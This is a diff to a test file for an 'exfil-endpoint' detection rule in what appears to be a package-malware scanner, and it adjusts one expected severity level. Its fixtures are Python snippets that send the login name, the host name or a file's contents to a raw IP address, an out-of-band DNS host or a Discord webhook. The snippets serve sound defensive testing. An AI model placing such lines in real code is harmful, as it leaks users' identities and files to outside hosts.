@@ -10,11 +10,11 @@ describe('exfil-endpoint', () => {
     const src = `import socket, os\nsocket.gethostbyname(os.getlogin() + '.c2lu5xb2vtc0000hb4g0gk8ruhcyyyyyb.oast.fun')\n`;
     expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
   });
-  it('flags a raw-IP URL sent the host name from a module (critical); a library upload stays low', () => {
+  it('flags a raw-IP URL sent the host name from a module (critical); a file upload to a raw IP from a module is held (medium)', () => {
     const src = `import requests, platform\ndef ping():\n    requests.post('http://45.61.0.7:8080/c', data=platform.node())\n`;
     expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src }))).toBe('critical');
     const src2 = `import requests\ndef up(p):\n    requests.post('http://45.61.0.7:8080/c', data=open(p).read())\n`;
-    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src2 }))).toBe('low');
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src2 }))).toBe('medium');
   });
   it('keeps a webhook URL in a mere string constant low/medium', () => {
     const f = hits('exfil-endpoint', { 'pkg/consts.py': `EXAMPLE = 'https://discord.com/api/webhooks/1/x'\n` });
